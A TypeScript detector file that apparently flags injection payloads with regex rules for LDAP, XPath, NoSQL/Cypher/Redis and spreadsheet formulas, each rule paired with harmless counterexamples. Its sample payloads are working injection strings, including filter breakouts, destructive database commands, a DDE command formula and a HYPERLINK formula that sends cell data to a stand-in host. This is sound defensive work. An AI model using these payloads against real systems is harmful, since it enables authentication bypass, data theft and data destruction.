import type { PayloadRule } from "./payload-rule.ts";

/** What changes a query that a value is put into, other than one of SQL; and formulas, which tables of others run. */
export const queryRules: readonly PayloadRule[] = [
  {
    id: "ldap",
    patterns: [
      /[*)][)(|&!\s]{0,8}\(\s?(?:[|&!]|[\w-]{1,40}(?::[\w.]{2,40}:?)?\s?[~<>:]?=)|\(\s?[|&!]\s?\(\s?[\w-]{1,40}\s?=|\)\s?\(\s?[|&!]|\*\)\s?[)(%]|^\*\)\s?$|[!&|]\([&|!(*]|\*\(\)\|/,
      /^\s{0,4}[!&|]\(\s?[\w-]{1,40}\s?[~<>]?=/,
    ],
    examples: {
      payloads: [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "x)(|(password=*)",
        "x)(memberOf:1.2.840.113556.1.4.1941:=cn=x",
        "!(uid=admin)",
      ],
      harmless: ["f(x)", "John (Sales)", "a*b", "(555) 123-4567", "name (x)", "stars ***"],
    },
  },
  {
    id: "xpath",
    patterns: [
      /(?<![:\w])\/\/(?:\*\s{0,4}(?:\[|$|\||\/)|@?[a-z]\w{0,40}(?:\/[\w*@]{1,40}){0,6}\s{0,4}(?:\[|\||\())|['"]\s{0,4}\]\s{0,4}(?:\||\/|\[)|['"]\s{0,4}\b(?:or|and)\b\s{0,4}\.{0,2}\/{1,2}[\w*@]/i,
      /(?:^|[\s/[(|'"=])(?:(?:ancestor|descendant|following|preceding)(?:-or-self|-sibling)?::(?:\*|[a-z])|(?:parent|child|self|attribute|namespace)::(?:\*|node\s?\(|text\s?\())|\/(?:parent|child|attribute|namespace)::[a-z]/i,
      /\b(?:doc|doc-available|unparsed-text|unparsed-text-lines|json-doc|collection|uri-collection|environment-variable|available-environment-variables|system-property)\(\s{0,4}(?:["'/.]|\))|\b(?:local-name|namespace-uri|processing-instruction|string-length|normalize-space|substring-before|substring-after|starts-with|string-to-codepoints|codepoints-to-string)\(\s{0,4}(?:["'/.*@)]|\w{1,40}\()/i,
    ],
    examples: {
      payloads: [
        "//*",
        "//user[1]/password",
        "x'] | //password | a['",
        "/descendant::node()",
        "doc('http://x.example/a')",
        "x and string-length(/a/b)",
      ],
      harmless: [
        "https://example.org",
        "// a comment",
        "std::vector",
        "self::new",
        "doc (draft)",
        "a / b",
        "//server/share",
        "starts-with-a-bang",
      ],
    },
  },
  {
    id: "operator",
    patterns: [
      /[{,]\s{0,8}["']?\$(?:gte?|lte?|eq|ne|n?in|regex|where|exists|or|and|not|nor|expr|type|mod|all|size|elemMatch|func(?:tion)?|accumulator|comment|text|jsonSchema|lookup|graphLookup|unionWith|merge|out|match|group|project|set|unset|rename|inc|push|pull|eval)["']?\s{0,8}:/i,
      /\[\$(?:gte?|lte?|eq|ne|n?in|regex|where|exists|or|and|not|nor|expr)\]|"\w{1,40}__\w{0,80}(?:i?(?:starts|ends)with|i?contains|i?exact|i?regex|isnull|[gl]te?)"\s{0,4}:|\|\|\s?(?:this\.|1\s?==|'a'\s?==)|'\s?(?:\|\||&&)\s?(?:this|'|1|true)|'\s?==\s?'|;\s?sleep\s?\(\s?\d|\$where\b/i,
      // Calls of MongoDB and Gremlin; clauses of Cypher; commands of Redis that nobody's id is.
      /\bdb\.\w{1,40}\.(?:find|insert|drop|update|remove|delete|aggregate|count|save|mapReduce|replace)\w{0,20}\s?\(|\bdb\.(?:dropDatabase|eval|getCollection|adminCommand|runCommand)\s?\(|\bg\.(?:V|E|addV|addE)\(/i,
      /\bmatch\s{0,4}\(\w{0,40}[^()]{0,80}\)\s{0,4}(?:-|<|(?:detach|delete|return|set|where|with|remove)\b)|\}\s?\)\s{0,4}(?:return|set|delete|detach|call|load|union|with|match)\b|\bcall\s{1,4}(?:db|apoc|dbms)\.|\bload\s{1,4}csv\s{1,4}(?:with\s{1,4}headers\s{1,4})?from\b/i,
      // Joined on both sides to what stands around the value.
      /^\s{0,4}["']\s{0,4}\|\|[^|\n]{1,80}\|\|\s{0,4}["']/,
      /(?:^|[\s;|&])(?:FLUSHALL|FLUSHDB|SLAVEOF|REPLICAOF|CONFIG\s{1,4}(?:SET|REWRITE)|MODULE\s{1,4}LOAD|DEBUG\s{1,4}SLEEP)(?:\s|$)/,
    ],
    examples: {
      payloads: [
        '{"$gt": ""}',
        "user[$ne]=x",
        "' || this.password == 'x",
        '{"a":{"$where":"1"}}',
        '{"$lookup":{"from":"users"}}',
        "; db.x.insert({})",
        "MATCH (n) DETACH DELETE n",
        "x'}) RETURN n//",
        "g.V().drop()",
        "* | FLUSHALL",
        "' || new Date() > 0 || '",
      ],
      harmless: [
        "$gt",
        "{a: 1}",
        "price in $",
        "[1, 2]",
        "a || b",
        "or, and, not",
        "match (final) of 2026",
        "db.users",
        "call db admin",
        "flush all",
      ],
    },
  },
  {
    id: "formula",
    patterns: [
      /^\s{0,4}[=+@-].{0,200}(?:\b(?:cmd|powershell|mshta|msexcel|regsvr32|rundll32)(?:\.exe)?\s?\|\s?'|\|\s?'[^'\n]{0,100}'![A-Z])/i,
      /^\s{0,4}[=+@-].{0,200}\b(?:hyperlink|import(?:xml|data|html|feed|range)|webservice|filterxml|dde(?:auto)?|rtd|call|register(?:\.id)?|exec)\(/i,
    ],
    examples: {
      payloads: [
        "=cmd|'/c calc'!A1",
        '=HYPERLINK("http://x.example/?"&A1)',
        '=IMPORTXML("http://x.example","//a")',
        "-2+3+cmd|'/c calc'!A0",
      ],
      harmless: ["=SUM(A1:A9)", "- call (me)", "+41 44 668 18 00", "@mention", "= equals", "-5"],
    },
  },
];
